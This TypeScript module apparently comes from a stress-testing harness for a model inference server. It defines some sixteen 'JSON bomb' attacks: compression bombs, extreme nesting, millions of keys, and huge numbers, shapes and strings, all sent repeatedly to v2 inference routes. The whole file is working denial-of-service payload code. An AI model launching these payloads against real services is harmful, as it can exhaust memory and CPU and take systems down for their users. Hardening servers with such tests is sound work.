/** Bombs of JSON: little on the wire, much to build or to compute. */
import zlib from 'node:zlib';
import { type Attack, lanes } from '../attack.js';
import { httpRequest, oneRequest } from '../raw-http1.js';

const INFER = '/v2/models/identity/infer';
const MIB = 2 ** 20;

const repeated = (open: string, unit: string, bytes: number, close: string): Buffer =>
  Buffer.concat([Buffer.from(open), Buffer.alloc(bytes, unit), Buffer.from(close)]);

/** A bomb that is sent deflated, to several routes, one request after the other on few connections. */
function bomb(
  name: string,
  about: string,
  build: () => Buffer,
  { paths, deflated = true }: { paths: readonly string[]; deflated?: boolean },
): Attack {
  return {
    name,
    about,
    async run(target) {
      const plain = build();
      const body = deflated ? zlib.deflateSync(plain) : plain;
      const headers: Record<string, string> = deflated ? { 'Content-Encoding': 'deflate' } : {};
      const requests = paths.map((path) => httpRequest(path, body, headers));
      let next = 0;
      await lanes(target, 3, () => oneRequest(target, requests[next++ % requests.length]!));
    },
  };
}

const ANY_ROUTE = [INFER, '/v2/repository/index', '/v2/logging', '/v2/trace/setting', '/v2/models/identity/generate'];

const tensor = (name: string): string => `{"name":"${name}","datatype":"INT32","shape":[1,4],"data":[1,2,3,4]}`;

/** All of them. */
export const JSON_ATTACKS: readonly Attack[] = [
  bomb('json-objects', '60 MB of {}, in 60 KB deflated', () => repeated('[', '{},', 60 * MIB, '{}]'), {
    paths: ANY_ROUTE,
  }),
  bomb(
    'json-arrays',
    '60 MB of [], in a member that is known',
    () => repeated('{"inputs":[', '[],', 60 * MIB, '[]]}'),
    { paths: ANY_ROUTE },
  ),
  bomb('json-depth', '30 MB of [ within [', () => Buffer.alloc(30 * MIB, '['), { paths: ANY_ROUTE }),
  bomb(
    'json-depth-data',
    'a tensor whose data are nested a million times',
    () => repeated(`{"inputs":[{"name":"INPUT0","datatype":"INT32","shape":[1,4],"data":`, '[', MIB, ''),
    { paths: [INFER] },
  ),
  bomb(
    'json-keys',
    'an object of a million different members',
    () => Buffer.from(`{${Array.from({ length: 1_000_000 }, (_, i) => `"k${i}":0`).join()}}`),
    { paths: ANY_ROUTE },
  ),
  bomb(
    'json-parameters',
    'a request of 300,000 parameters',
    () =>
      Buffer.from(
        `{"parameters":{${Array.from({ length: 300_000 }, (_, i) => `"k${i}":${i}`).join()}},"inputs":[${tensor('INPUT0')}]}`,
      ),
    { paths: [INFER] },
  ),
  bomb(
    'json-inputs',
    '40,000 inputs of one name',
    () => Buffer.from(`{"inputs":[${Array.from({ length: 40_000 }, () => '{"name":"a"}').join()}]}`),
    { paths: [INFER] },
  ),
  bomb(
    'json-inputs-whole',
    '20,000 whole inputs of different names',
    () => Buffer.from(`{"inputs":[${Array.from({ length: 20_000 }, (_, i) => tensor(`n${i}`)).join()}]}`),
    { paths: [INFER] },
  ),
  bomb(
    'json-outputs',
    '100,000 requested outputs',
    () =>
      Buffer.from(
        `{"inputs":[${tensor('INPUT0')}],"outputs":[${Array.from({ length: 100_000 }, (_, i) => `{"name":"o${i}"}`).join()}]}`,
      ),
    { paths: [INFER] },
  ),
  bomb(
    'json-rank',
    'a shape of two million dimensions',
    () => repeated('{"inputs":[{"name":"INPUT0","datatype":"INT32","shape":[', '2,', 4 * MIB, '2],"data":[1]}]}'),
    { paths: [INFER] },
  ),
  bomb(
    'json-number',
    'a number of ten million digits',
    () => repeated('{"inputs":[{"name":"INPUT0","datatype":"INT32","shape":[1,4],"data":[', '9', 10 * MIB, ']}]}'),
    { paths: [INFER] },
  ),
  bomb('json-escapes', 'a string of 30 MB of escapes', () => repeated('{"id":"', '\\u0000', 30 * MIB - 4, '"}'), {
    paths: ANY_ROUTE,
  }),
  bomb(
    'json-name',
    'the name of an input is 30 MB',
    () => repeated('{"inputs":[{"name":"', 'n', 30 * MIB, '","datatype":"INT32","shape":[1,4],"data":[1]}]}'),
    { paths: [INFER] },
  ),
  bomb(
    'json-numbers',
    '60 MB of numbers for a tensor, as they stand',
    () =>
      repeated(
        `{"inputs":[{"name":"INPUT0","datatype":"INT32","shape":[1,${30 * MIB + 1}],"data":[`,
        '1,',
        60 * MIB,
        '1]}]}',
      ),
    { paths: ['/v2/models/wide/infer'], deflated: false },
  ),
  bomb(
    'json-strings',
    '20 MB of short strings for a tensor',
    () =>
      repeated(
        `{"inputs":[{"name":"INPUT0","datatype":"BYTES","shape":[1,${5 * MIB + 1}],"data":[`,
        '"a",',
        20 * MIB,
        '"a"]}]}',
      ),
    { paths: ['/v2/models/texts/infer'] },
  ),
  {
    name: 'json-output',
    about: '16 MB of FP32 sent as bytes, asked for as JSON',
    async run(target) {
      const elements = 4 * MIB;
      const head = Buffer.from(
        `{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,${elements}],"parameters":{"binary_data_size":${4 * elements}}}]}`,
      );
      const data = Buffer.alloc(4 * elements, Buffer.from(new Float32Array([0.1, 1 / 3, 1e-20, 12345.678]).buffer));
      const request = httpRequest('/v2/models/floats/infer', Buffer.concat([head, data]), {
        'Inference-Header-Content-Length': String(head.length),
      });
      await lanes(target, 2, () => oneRequest(target, request));
    },
  },
];
